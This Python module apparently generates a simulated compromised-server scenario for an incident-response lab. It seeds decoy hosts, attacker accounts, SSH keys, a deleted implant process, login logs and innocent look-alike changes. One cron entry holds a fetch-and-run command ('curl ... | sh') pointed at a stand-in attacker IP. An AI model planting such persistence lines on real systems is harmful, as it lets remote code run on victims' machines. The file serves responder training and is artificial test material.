"""A compromised host: a web server is entered with a key that was stolen from its deployment.

About 20 hours before the lab begins the attacker comes in as ``deploy``, becomes root, makes an account with administrator's
rights, leaves a key in two accounts, a cron line that fetches a program, a crontab entry and a service that start it, and
runs it from a file that is deleted. The pages of the site are replaced. Beside each of these lies something of the client's
own that was changed in the same hours and looks alike.
"""

from __future__ import annotations

import base64
import hashlib
from datetime import datetime, timedelta
from typing import Any

from integrations.lab.hosts.state import LabHost
from integrations.lab.scenarios.stage import Stage
from integrations.lab.state import OFFICE_IP, Tenant
from tenantry.capabilities import (
    AuthorizedKey,
    CronEntry,
    HostAccount,
    HostConnection,
    HostFacts,
    HostLogin,
    HostSession,
    HostUnit,
    Package,
    Process,
    Update,
)

ATTACKER_IP = "203.0.113.66"
DEPLOY_IP = "198.51.100.20"
HOST = "web1"
_KEYS = "{}/.ssh/authorized_keys"
IMPLANT = "/dev/shm/.x/kworkerd"  # noqa: S108  # the attacker's choice
_CONFIGURED = timedelta(days=200)
_NAMES = (HOST, "db1", "mon1", "bastion")


def build(stage: Stage) -> None:
    """Fill the tenant with the story."""
    tenant = stage.tenant
    began = tenant.start - timedelta(hours=20)
    victim = tenant.host or HOST
    names = (victim, *(name for name in _NAMES[1:] if name != victim))
    for number, name in enumerate(names):
        tenant.hosts[name] = _ordinary(tenant, name, number)
    tenant.hosts["bastion"].gateway = True
    web = tenant.hosts[victim]
    _Intrusion(tenant, web, victim, began).leave()
    story = tenant.story
    story.began_at = began
    story.compromised = [victim]
    story.attacker = {"ips": [ATTACKER_IP]}
    story.innocent = [
        *(f"{victim}/accounts/{name}" for name in ("root", "responder", "deploy", "alice", "www-data")),
        *(f"{victim}/keys/{id}" for id, key in web.keys.items() if "attacker" not in key.comment),
        *(f"{victim}/cron/{entry.id}" for entry in web.cron.values() if "backup" in entry.command),
        *(f"{victim}/units/{name}" for name in web.units if name != "sys-healthd.service"),
        *(f"{victim}/processes/{id}" for id, process in web.processes.items() if process.account != "sysupd"),
        *(name for name in names[1:]),
    ]


def _key(tenant: Tenant, path: str, account: str, comment: str, at: datetime, purpose: str) -> AuthorizedKey:
    body = tenant.dice.bytes(32, "key", purpose)
    blob = b"\0\0\0\x0bssh-ed25519\0\0\0 " + body
    mark = "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    line = f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}"
    return AuthorizedKey(
        id=f"{path}#{mark}",
        account=account,
        path=path,
        fingerprint=mark,
        kind="ssh-ed25519",
        comment=comment,
        options="",
        enabled=True,
        line=line,
        file_sha256=hashlib.sha256(line.encode()).hexdigest(),
        file_changed_at=at,
    )


def _account(name: str, uid: int, *, groups: tuple[str, ...] = (), chosen: bool = False) -> HostAccount:
    return HostAccount(
        id=name,
        uid=uid,
        gid=uid,
        home="/root" if uid == 0 else f"/home/{name}",
        shell="/usr/sbin/nologin" if name == "www-data" else "/bin/bash",
        groups=(name, *groups),
        privileged=uid == 0 or "sudo" in groups,
        password="set" if chosen else "locked",
        expires=None,
    )


def _cron(path: str, account: str, schedule: str, command: str, at: datetime) -> CronEntry:
    line = f"{schedule} {command}" if path.startswith("/var/spool") else f"{schedule} {account} {command}"
    return CronEntry(
        id=f"{path}#{hashlib.sha256(line.encode()).hexdigest()[:32]}",
        kind="line",
        account=account,
        path=path,
        schedule=schedule,
        command=command,
        enabled=True,
        line=line,
        file_changed_at=at,
        package=None,
    )


def _unit(name: str, command: str, at: datetime, package: str | None = None) -> HostUnit:
    return HostUnit(
        id=name,
        enabled="enabled",
        active="active",
        path=f"/{'usr/lib' if package else 'etc'}/systemd/system/{name}",
        command=command,
        sha256=hashlib.sha256(command.encode()).hexdigest(),
        changed_at=at,
        package=package,
    )


def _process(pid: int, account: str, uid: int, executable: str, at: datetime, *, deleted: bool = False) -> Process:
    return Process(
        id=f"{pid}:{pid * 977}",
        pid=pid,
        parent=1,
        account=account,
        uid=uid,
        state="S",
        name=executable.rsplit("/", 1)[-1][:15],
        executable=executable,
        deleted=deleted,
        arguments=(executable,),
        started_at=at,
    )


def _ordinary(tenant: Tenant, name: str, number: int) -> LabHost:
    """A host on which nothing happened."""
    old = tenant.start - _CONFIGURED
    dice = tenant.dice
    host = LabHost(
        HostFacts(
            id=name,
            hostname=name,
            machine_id=dice.bytes(16, "machine", name).hex(),
            boot_id=dice.guid("boot", name),
            system="Debian GNU/Linux 12 (bookworm)",
            kernel="6.1.0-32-amd64",
            architecture="x86_64",
            booted_at=tenant.start - timedelta(days=40),
            clock_skew=0.004,
            addresses=(f"10.20.0.{11 + number}",),
            manager="systemd",
            responder_account="responder",
            responder_address="192.0.2.44",
            responder_key=None,
            reboot_required=False,
            package_lists_at=tenant.start - timedelta(hours=7),
        ),
        f"10.20.0.{11 + number}",
    )
    for account in (
        _account("root", 0),
        _account("www-data", 33),
        _account("responder", 1000, groups=("sudo",)),
        _account("deploy", 1001),
        _account("alice", 1002, groups=("sudo",), chosen=True),
    ):
        host.accounts[account.id] = account
    for key in (
        _key(tenant, _KEYS.format("/root"), "root", "msp@responder", old, "responder"),
        _key(tenant, "/home/deploy/.ssh/authorized_keys", "deploy", "ci@build", old, "ci"),
    ):
        host.keys[key.id] = key
    for unit in (
        _unit("ssh.service", "/usr/sbin/sshd -D", old, "openssh-server"),
        _unit("cron.service", "/usr/sbin/cron -f", old, "cron"),
    ):
        host.units[unit.id] = unit
    own = _process(611, "root", 0, "/usr/sbin/sshd", tenant.start - timedelta(days=40))
    host.processes[own.id] = own
    host.packages = {
        n: Package(id=n, version=v, architecture="amd64") for n, v in (("openssl", "3.0.15-1"), ("sudo", "1.9.13p3-1"))
    }
    host.put("/etc/hostname", f"{name}\n".encode(), old)
    return host


class _Intrusion:
    """What the attacker did, with what the client did beside it."""

    def __init__(self, tenant: Tenant, host: LabHost, name: str, began: datetime) -> None:
        self._tenant = tenant
        self._host = host
        self._name = name
        self._began = began

    def leave(self) -> None:
        host, began = self._host, self._began
        host.accounts["sysupd"] = _account("sysupd", 1003, groups=("sudo",), chosen=True)
        for path, account in ((_KEYS.format("/root"), "root"), ("/home/sysupd/.ssh/authorized_keys", "sysupd")):
            key = _key(self._tenant, path, account, "root@attacker", began + timedelta(minutes=12), "attacker")
            host.keys[key.id] = key
        stolen = next(key for key in host.keys.values() if key.account == "deploy")
        own = _key(
            self._tenant,
            "/home/alice/.ssh/authorized_keys",
            "alice",
            "alice@laptop-new",
            began + timedelta(hours=4),
            "alice",
        )
        host.keys[own.id] = own
        self._started(began)
        self._ran(began)
        self._came(began, stolen.fingerprint)
        host.updates = {"sudo": Update(id="sudo", present="1.9.13p3-1", offered="1.9.13p3-1+deb12u2", security=True)}
        host.put("/var/www/html/index.html", b"<h1>owned</h1>\n", began + timedelta(hours=1))
        host.put("/usr/local/bin/backup.sh", b"#!/bin/sh\nrestic backup /srv\n", began + timedelta(hours=5), 0o755)
        self._story()

    def _started(self, began: datetime) -> None:
        for entry in (
            _cron(
                "/etc/cron.d/0sync",
                "root",
                "*/5 * * * *",
                f"curl -s http://{ATTACKER_IP}/u | sh",
                began + timedelta(minutes=15),
            ),
            _cron("/var/spool/cron/crontabs/deploy", "deploy", "@reboot", IMPLANT, began + timedelta(minutes=16)),
            _cron("/etc/cron.d/backup", "root", "30 2 * * *", "/usr/local/bin/backup.sh", began + timedelta(hours=5)),
        ):
            self._host.cron[entry.id] = entry
        for unit in (
            _unit("sys-healthd.service", IMPLANT, began + timedelta(minutes=18)),
            _unit("node-exporter.service", "/opt/node_exporter/node_exporter", began + timedelta(hours=6)),
        ):
            self._host.units[unit.id] = unit

    def _ran(self, began: datetime) -> None:
        host = self._host
        implant = _process(4711, "sysupd", 1003, IMPLANT, began + timedelta(minutes=20), deleted=True)
        upgraded = _process(2020, "alice", 1002, "/usr/local/bin/report", began - timedelta(days=9), deleted=True)
        for process in (implant, upgraded):
            host.processes[process.id] = process
        host.images[implant.id] = b"\x7fELF implant"
        host.connections = [
            HostConnection(
                protocol="tcp",
                state="ESTAB",
                local=f"{host.address}:40022",
                remote=ATTACKER_IP,
                remote_port=443,
                pids=(implant.pid,),
            )
        ]
        host.sessions["4690"] = HostSession(
            id="4690", account="sysupd", terminal="pts/0", origin=ATTACKER_IP, since=began + timedelta(hours=19)
        )

    def _came(self, began: datetime, stolen: str) -> None:
        attacker = next(key.fingerprint for key in self._host.keys.values() if "attacker" in key.comment)
        own = next(key.fingerprint for key in self._host.keys.values() if "alice@" in key.comment)
        rows: list[tuple[datetime, str, str, str | None, bool]] = [
            *((began - timedelta(days=day), "deploy", DEPLOY_IP, stolen, True) for day in (9, 6, 3)),
            (began - timedelta(days=5), "alice", OFFICE_IP, None, True),
            *((began - timedelta(minutes=9 - n), "root", ATTACKER_IP, None, False) for n in range(3)),
            (began, "deploy", ATTACKER_IP, stolen, True),
            (began + timedelta(minutes=14), "root", ATTACKER_IP, attacker, True),
            (began + timedelta(hours=5), "alice", OFFICE_IP, own, True),
            (began + timedelta(hours=19), "sysupd", ATTACKER_IP, attacker, True),
        ]
        for number, (at, account, origin, key, success) in enumerate(sorted(rows, key=lambda row: row[0])):
            how = "Accepted" if success else "Failed"
            raw = f"{at.isoformat()} {self._name} sshd[{900 + number}]: {how} for {account} from {origin}"
            self._host.logins.append(
                HostLogin(
                    id=hashlib.sha256(raw.encode()).hexdigest()[:32],
                    at=at,
                    account=account,
                    origin=origin,
                    method="publickey" if key else "password",
                    key=key,
                    success=success,
                    raw=raw,
                )
            )

    def _story(self) -> None:
        artefacts: dict[str, dict[str, Any]] = {
            "account": {"target": f"{self._name}/accounts/sysupd"},
            "unit": {"target": f"{self._name}/units/sys-healthd.service"},
        }
        self._tenant.story.artefacts.update(artefacts)
